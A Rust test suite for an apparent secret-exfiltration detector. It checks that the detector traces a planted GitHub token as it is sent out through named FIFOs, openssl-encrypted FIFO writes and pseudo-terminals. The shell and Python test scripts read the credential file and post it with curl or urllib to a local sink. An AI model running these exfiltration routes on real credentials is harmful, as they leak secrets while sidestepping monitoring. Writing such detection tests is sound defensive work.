//! What is passed on through FIFOs that are opened by their name, and through pseudo-terminals.

use super::{count, goes_to, sent};
use crate::{
    agent::Agent,
    command::{Done, sh},
    events::{Ask as _, Event, list},
    machine::{Scratch, turn},
    plant,
    server::Sink,
    stream::status,
};
use keytrail_proto::v1::Signal;
use std::{fs, path::PathBuf};

/// How it came to each, the program, and by what.
fn way(event: &Event) -> Vec<(String, String, String)> {
    let path = &event.evidence.as_ref().unwrap().path;
    let name = |path: &str| path.rsplit('/').next().unwrap_or("").to_owned();
    path.iter()
        .map(|step| (step.how.clone(), name(&step.executable), step.name.clone()))
        .collect()
}

/// Whether this kernel lets FIFOs be followed; where it does not, the report says so.
fn follows_fifos(agent: &Agent) -> bool {
    let status = status(&agent.socket());
    let mut signals = status.signals.iter();
    let writes = signals.find(|s| s.signal == i32::from(Signal::FdWrite));
    !writes
        .unwrap()
        .note
        .contains("is not followed before Linux 6.4")
}

struct Place {
    scratch: Scratch,
    sink: Sink,
    agent: Agent,
}

impl Place {
    fn new() -> Self {
        let scratch = Scratch::new();
        let agent = Agent::start(&scratch);
        Self {
            sink: Sink::http(),
            agent,
            scratch,
        }
    }

    /// A file with a token: watched, or where nobody has named one.
    fn key(&self, number: usize) -> PathBuf {
        let place = ["home", "elsewhere"][number % 2];
        let file = self.scratch.join(&format!("{place}/key{number}.json"));
        fs::create_dir_all(file.parent().unwrap()).unwrap();
        let text = format!("{{\"GITHUB_TOKEN\":\"{}\"}}\n", plant::github().value);
        fs::write(&file, text).unwrap();
        file
    }

    /// With the key's file, the sink's address and a FIFO.
    fn run(&self, number: usize, script: &str) -> (Done, PathBuf, PathBuf) {
        let (file, fifo) = (
            self.key(number),
            self.scratch.join(&format!("fifo{number}")),
        );
        let done = sh(&format!("mkfifo \"$3\"; {script}\n:"))
            .arg(&file)
            .arg(format!("http://127.0.0.1:{}/in", self.sink.port))
            .arg(&fifo)
            .limit(30)
            .run()
            .ok();
        self.agent.wait_idle();
        (done, file, fifo)
    }
}

/// By a shell or by the program itself, the reader first or the writer: seen where it leaves as it is, with the FIFO's path.
pub fn through_a_fifo() {
    let _turn = turn();
    let place = Place::new();
    let scripts = [
        "cat \"$1\" > \"$3\" & curl -s -d @- \"$2\" < \"$3\"; wait",
        "cat \"$1\" > \"$3\" & curl -s -d @\"$3\" \"$2\"; wait",
        "curl -s -d @\"$3\" \"$2\" & sleep 1; cat \"$1\" > \"$3\"; wait",
        "(sleep 1; cat \"$1\" | tee \"$3\" >/dev/null) & curl -s -d @\"$3\" \"$2\"; wait",
        "cat \"$1\" > \"$3\" & cat \"$3\" | curl -s -d @- \"$2\"; wait",
    ];
    let followed = follows_fifos(&place.agent);
    for (n, script) in (0..2 * scripts.len()).zip(scripts.into_iter().cycle()) {
        let (done, file, fifo) = place.run(n, script);
        if !followed {
            let name = fifo.to_str().unwrap();
            let told = sent(&place.agent, done.pid);
            let named = told.iter().flat_map(way).any(|step| step.2 == name);
            // What is a standard stream from the start is known of every kernel.
            let from_start = script.contains("< \"$3\"");
            assert_eq!(named, from_start, "{script}\n{}", list(&told));
            continue;
        }
        let told = sent(&place.agent, done.pid);
        let text = format!("{script}\n{}", list(&place.agent.tree(done.pid)));
        assert_eq!(told.len(), 1, "{text}");
        assert_eq!(told[0].grade(), "observed", "{text}");
        assert!(told[0].executable().ends_with("/curl"), "{text}");
        assert_eq!(told[0].path(), file.to_str().unwrap(), "{text}");
        let way = way(&told[0]);
        assert_eq!(way[0].0, "read", "{way:?}\n{text}");
        let by_it = |step: &&(String, String, String)| step.2 == fifo.to_str().unwrap();
        assert!(
            way.iter().any(|s| by_it(&s) && s.0 == "pipe"),
            "{way:?}\n{text}"
        );
    }
}

/// Encrypted on its way into it: lineage. What somebody who met nothing puts into one is none.
pub fn encrypted_into_a_fifo() {
    let _turn = turn();
    let place = Place::new();
    for n in 0..2 {
        let (done, _, fifo) = place.run(
            n,
            "openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in \"$1\" -out \"$3\" &
             curl -s --data-binary @\"$3\" \"$2\"; wait",
        );
        let told = sent(&place.agent, done.pid);
        let text = list(&place.agent.tree(done.pid));
        count(&told, 1, &text);
        assert_eq!(told[0].grade(), "lineage", "{text}");
        goes_to(&told[0], &["127.0.0.1"], place.sink.port);
        let step = |how: &str, program: &str, name: &str| {
            (how.to_owned(), program.to_owned(), name.to_owned())
        };
        let last = step("pipe", "curl", fifo.to_str().unwrap());
        assert_eq!(way(&told[0]).last(), Some(&last), "{text}");
    }
    let (done, ..) = place.run(
        2,
        "cat \"$1\" >/dev/null; ls / > \"$3\" & curl -s -d @\"$3\" \"$2\"; wait",
    );
    let told = sent(&place.agent, done.pid);
    assert!(told.is_empty(), "{}", list(&told));
}

/// Shown on a terminal of which a program has the other end, and sent by that, or by who reads what it writes.
pub fn through_a_terminal() {
    let _turn = turn();
    let place = Place::new();
    // Not at once: that may be before it is decided who has the other end.
    let python = "python3 -c \"
import os, pty, sys, time, urllib.request
out = []
def read(fd):
    out.append(os.read(fd, 4096))
    return out[-1]
pty.spawn(['cat', sys.argv[1]], read)
time.sleep(0.5)
urllib.request.urlopen(sys.argv[2], data=b''.join(out))\" \"$1\" \"$2\"";
    let scripts = [
        (
            "script -qc \"cat '$1'\" /dev/null | curl -s -d @- \"$2\"",
            "/curl",
        ),
        (
            "script -qc \"sleep 1; cat '$1'\" /dev/null | curl -s -d @- \"$2\"",
            "/curl",
        ),
        (python, "python3"),
    ];
    for (n, (script, by)) in (0..2 * scripts.len()).zip(scripts.into_iter().cycle()) {
        let (done, file, _) = place.run(n, script);
        let told = sent(&place.agent, done.pid);
        let text = format!("{script}\n{}", list(&place.agent.tree(done.pid)));
        assert_eq!(told.len(), 1, "{text}");
        assert_eq!(told[0].grade(), "observed", "{text}");
        assert!(told[0].executable().contains(by), "{text}");
        assert_eq!(told[0].path(), file.to_str().unwrap(), "{text}");
        let way = way(&told[0]);
        let by_it =
            |s: &(String, String, String)| s.0 == "terminal" && s.2.starts_with("/dev/pts/");
        assert!(way.iter().any(by_it), "{way:?}\n{text}");
    }
    // A key was read, and something else was shown.
    let (done, ..) = place.run(
        6,
        "script -qc \"cat '$1' >/dev/null; ls /\" /dev/null | curl -s -d @- \"$2\"",
    );
    let told = sent(&place.agent, done.pid);
    assert!(told.is_empty(), "{}", list(&told));
}
